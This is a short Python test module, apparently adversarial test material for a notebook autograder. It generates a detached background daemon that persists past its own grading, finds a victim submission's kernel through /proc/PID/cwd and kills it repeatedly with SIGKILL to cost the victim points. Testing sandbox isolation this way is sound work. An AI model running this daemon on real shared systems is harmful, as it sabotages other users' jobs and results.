"""In a batch, an attacker's daemon that outlives its own grading and kills the next submission's kernel.

It finds the victim's kernel by the notebook in its working directory (``/proc/PID/cwd``) and kills it
over and over, so that the victim loses points; it only ever touches processes working beside a
notebook named after ``victim``.
"""

from __future__ import annotations

from adversarial import detached


def cell(victim: str, seconds: float = 90.0) -> str:
    code = f'''
import os, signal, time
end = time.time() + {seconds}
while time.time() < end:
    for pid in os.listdir("/proc"):
        if pid.isdigit() and int(pid) != os.getpid():
            try:
                if os.path.exists(f"/proc/{{pid}}/cwd/{victim}"):
                    os.kill(int(pid), signal.SIGKILL)
            except OSError:
                pass
    time.sleep(0.05)
'''
    return detached(code, f"neighbour-{victim}")
